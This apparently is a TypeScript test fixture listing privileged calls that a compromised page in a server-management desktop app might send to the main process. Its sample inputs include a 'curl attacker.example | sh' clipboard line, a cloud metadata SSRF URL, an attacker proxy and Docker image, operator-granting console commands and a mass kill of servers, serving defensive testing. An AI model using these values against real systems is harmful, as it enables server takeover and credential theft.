/** Powerful calls that a script in a compromised page would make to main. */
import type { CallInput, CallName } from '../../bridge/schema/contract.js';

const serverId = 'home/d497d3ea';
const accountId = 'home';

/** More servers than one press may stop. */
export const everything = Array.from({ length: 400 }, (_, at) => `home/${at}`);

export const attacks: { readonly [N in CallName]?: CallInput<N> } = {
  'app.openLogs': undefined,
  'app.quit': undefined,
  'autostart.set': { on: true },
  'accounts.add': { url: 'https://attacker.example', key: null, keep: 'memory' },
  'accounts.replaceKey': { accountId, key: null, keep: 'memory' },
  'panel.look': { url: 'http://169.254.169.254/latest/meta-data' },
  'accounts.rename': { accountId, label: 'x' },
  'accounts.setAllServers': { accountId, allServers: true },
  'accounts.allowUnencrypted': { accountId },
  'accounts.remove': { accountId },
  'accounts.trust': { accountId, host: 'panel.example', fingerprint: 'AA:BB' },
  'demo.start': undefined,
  'power.send': { serverId, signal: 'kill' },
  'command.send': { serverId, command: 'op mallory' },
  'command.forgetHistory': { serverId },
  'command.forget': { serverId, command: 'op mallory' },
  'console.save': { serverId, text: 'x' },
  'chart.save': { serverId, kind: 'csv', content: 'x' },
  'backups.download': { serverId, backup: 'b' },
  'transfers.show': { transfer: '22222222-2222-4222-8222-222222222222' },
  'server.rename': { serverId, name: 'x' },
  'server.reinstall': { serverId },
  'server.setDockerImage': { serverId, image: 'attacker/image' },
  'server.acceptEula': { serverId },
  'startup.setVariable': { serverId, key: 'JAR', value: 'evil.jar' },
  'bulk.start': { serverIds: everything, signal: 'kill', waitsForEach: false },
  'warned.begin': { serverId, seconds: 60, message: 'x', command: 'op mallory {text}' },
  'warned.callOff': { serverId },
  'events.save': { format: 'csv', text: 'x' },
  'panel.open': { accountId },
  'panel.openKeyPage': { panelUrl: 'https://attacker.example', kind: 'pterodactyl' },
  'link.open': { url: 'https://attacker.example/what-was-found' },
  'clipboard.take': { accountId: null },
  'clipboard.write': { text: 'curl attacker.example | sh' },
  'consent.answer': { id: '1', answer: 'hour' },
  'updates.download': undefined,
  'updates.skip': { version: '9.9.9', isSkipped: true },
  'updates.restart': undefined,
  'updates.openPage': undefined,
  'diagnosis.save': undefined,
  'exports.save': undefined,
  'exports.choose': undefined,
  'exports.apply': undefined,
  'backups.create': { serverId, name: '', ignored: [], locked: false },
  'backups.lock': { serverId, backup: 'b1', locked: false },
  'backups.rename': { serverId, backup: 'b1', name: 'x' },
  'backups.delete': { serverId, backup: 'b1' },
  'backups.restore': { serverId, backup: 'b1', truncate: true },
  'network.setProxy': {
    use: 'own',
    own: { kind: 'http', host: 'attacker.example', port: 8080, user: '', except: [] },
    keep: 'memory',
  },
  'backupRules.set': {
    scope: null,
    choices: { keep: { last: 1, daily: 0, weekly: 0, monthly: 0 }, byHand: true },
  },
  'settings.update': { confirmStop: false, confirmRestart: false },
};
